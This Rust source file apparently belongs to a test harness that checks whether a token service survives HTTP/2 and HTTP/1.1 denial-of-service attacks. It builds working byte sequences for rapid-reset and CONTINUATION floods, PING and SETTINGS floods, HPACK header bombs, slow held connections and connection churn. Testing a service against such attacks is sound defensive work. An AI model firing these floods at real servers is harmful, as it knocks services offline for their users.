//! Attacks that cost the caller nothing.

use super::attack::{Attack, Ending, Way};
use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEAD_AGAIN, HEADERS, PING, PRIORITY,
    RST_STREAM, SETTINGS, UNKNOWN, WINDOW_UPDATE, call, frame, head, head_to_remember, message,
    opening, stream,
};

/// The number of attackers at a time. One bad program is one attacker for each core of a small
/// machine; this is worse.
const FEW: usize = 4;
const MANY: usize = 400;

/// The number of frames in one write.
const GUSH: usize = 2000;

fn flood(name: &'static str, opening: fn() -> Vec<u8>, more: fn(u32) -> Vec<u8>) -> Attack {
    Attack {
        name,
        ending: Ending::CutOff,
        way: Way::Flood {
            connections: FEW,
            opening,
            more,
            reads: true,
        },
    }
}

impl Attack {
    /// The same attack, but it reads no answer.
    fn deaf(mut self, name: &'static str) -> Attack {
        self.name = name;
        if let Way::Flood { reads, .. } = &mut self.way {
            *reads = false;
        }
        self
    }

    /// The same attack with another ending: calls may be made as often as a caller likes.
    fn ends(mut self, ending: Ending) -> Attack {
        self.ending = ending;
        self
    }

    /// The same attack by one connection instead of several.
    fn alone(mut self, name: &'static str) -> Attack {
        self.name = name;
        if let Way::Flood { connections, .. } = &mut self.way {
            *connections = 1;
        }
        self
    }
}

fn pings(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, b"abcdefgh").repeat(GUSH)
}

fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1]).repeat(GUSH)
}

/// A call that puts the fields of the next calls into the dynamic table.
fn remembered() -> Vec<u8> {
    let head = frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        stream(0),
        &head_to_remember(),
    );
    [opening(), head].concat()
}

/// An open call that waits for the rest of its message.
fn waiting() -> Vec<u8> {
    [opening(), frame(HEADERS, END_HEADERS, 1, &head())].concat()
}

fn block(kind: u8, n: u32, more: &[u8]) -> Vec<u8> {
    frame(
        kind,
        END_HEADERS | END_STREAM,
        stream(n),
        &[&head(), more].concat(),
    )
}

/// A field of 4000 bytes for the dynamic table.
fn huge_entry() -> Vec<u8> {
    // Its length is 127 + 0x1f + 0x1e << 7.
    let mut field = b"\x40\x01x\x7f\xa1\x1e".to_vec();
    field.extend([b'a'; 4000]);
    [opening(), block(HEADERS, 0, &field)].concat()
}

/// All attacks.
pub fn all() -> Vec<Attack> {
    let mut all = frames();
    all.extend(header_bombs());
    all.extend(connections());
    all
}

/// Frames that cost the sender little.
fn frames() -> Vec<Attack> {
    vec![
        flood("rapid reset", remembered, |n| {
            let pair = |n| {
                [
                    frame(HEADERS, END_HEADERS, stream(n), HEAD_AGAIN),
                    frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8]),
                ]
                .concat()
            };
            (100 * n + 1..100 * (n + 1) + 1).flat_map(pair).collect()
        }),
        flood(
            "CONTINUATION without an end",
            || [opening(), frame(HEADERS, 0, 1, &head())].concat(),
            |_| frame(CONTINUATION, 0, 1, b"\0\x01a\x01b").repeat(GUSH),
        ),
        flood("PING", opening, pings).alone("PING, one connection"),
        flood("PING", opening, pings),
        flood("PING", opening, pings).deaf("PING, answers not read"),
        flood("PING answers nobody asked for", opening, |_| {
            frame(PING, ACK, 0, b"abcdefgh").repeat(GUSH)
        }),
        flood("SETTINGS", opening, settings),
        flood("SETTINGS", opening, settings).deaf("SETTINGS, answers not read"),
        flood("WINDOW_UPDATE", waiting, |n| {
            let on = |stream| frame(WINDOW_UPDATE, 0, stream, &[0, 0, 0, 1]).repeat(GUSH);
            // The number of bytes fits into the windows of the connection and of the stream.
            on(if n % 2 == 0 { 0 } else { 1 })
        }),
        flood("PRIORITY", opening, |_| {
            frame(PRIORITY, 0, 7, &[0, 0, 0, 3, 16]).repeat(GUSH)
        }),
        flood(
            "RST_STREAM of what has ended",
            || [opening(), call(1, "a")].concat(),
            |_| frame(RST_STREAM, 0, 1, &[0, 0, 0, 8]).repeat(GUSH),
        ),
        flood("unknown frames", opening, |_| {
            frame(UNKNOWN, 0, 0, b"").repeat(GUSH)
        }),
        flood("empty DATA", waiting, |_| {
            frame(DATA, 0, 1, b"").repeat(GUSH)
        }),
        flood("DATA byte by byte", waiting, |_| {
            let mut bytes = vec![0, 0, 0, 0xff, 0xff];
            bytes.extend([b'a'; GUSH]);
            bytes
                .iter()
                .flat_map(|byte| frame(DATA, 0, 1, &[*byte]))
                .collect()
        }),
    ]
}

/// Fields that are larger unpacked than they were sent.
fn header_bombs() -> Vec<Attack> {
    vec![
        flood(
            "header bomb: one huge field again and again",
            huge_entry,
            |n| {
                // Index 62 is the newest of the dynamic table; three times 4000 bytes are less than
                // `header_size`.
                (50 * n + 1..50 * (n + 1) + 1)
                    .flat_map(|n| block(HEADERS, n, &[0xbe; 3]))
                    .collect()
            },
        )
        .ends(Ending::Either),
        flood("header bomb: beyond all limits", huge_entry, |n| {
            block(HEADERS, n + 1, &[0xbe; 8000])
        }),
        flood("header bomb: a thousand fields", opening, |n| {
            // Index 16 is `accept-encoding: gzip, deflate`, which counts as 60 bytes.
            (4 * n..4 * (n + 1))
                .flat_map(|n| block(HEADERS, n, &[0x90; 1000]))
                .collect()
        })
        .ends(Ending::Either),
        flood(
            "header bomb: as many fields as may be, held",
            opening,
            |n| {
                let block = [&head()[..], &[0x90; 250]].concat();
                frame(HEADERS, END_HEADERS, stream(n), &block)
            },
        )
        .ends(Ending::Either),
    ]
}

/// Connections that stay, and that come and go.
fn connections() -> Vec<Attack> {
    let hold = |name, opening, drips| Attack {
        name,
        ending: Ending::Kept,
        way: Way::Hold {
            connections: MANY,
            opening,
            drips,
        },
    };
    let churn = |name, sends| Attack {
        name,
        ending: Ending::Either,
        way: Way::Churn { sends },
    };
    vec![
        hold(
            "slow HTTP/1.1",
            || b"GET /v1/profiles/a/token HTTP/1.1\r\nHost: tokend\r\nX: ".to_vec(),
            b"abc",
        ),
        hold(
            "slow HTTP/2",
            waiting,
            &[0, 0, 8, PING, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8],
        ),
        hold(
            "half a frame and silence",
            || [&waiting()[..], &frame(DATA, 0, 1, &message("a"))[..7]].concat(),
            b"",
        ),
        churn("connect and go", Vec::new),
        churn("connect, open and go", opening),
        churn("connect, half a call and go", waiting),
        flood("calls (what is allowed)", opening, |n| {
            (50 * n..50 * (n + 1))
                .flat_map(|n| call(stream(n), "a"))
                .collect()
        })
        .ends(Ending::Calls),
    ]
}
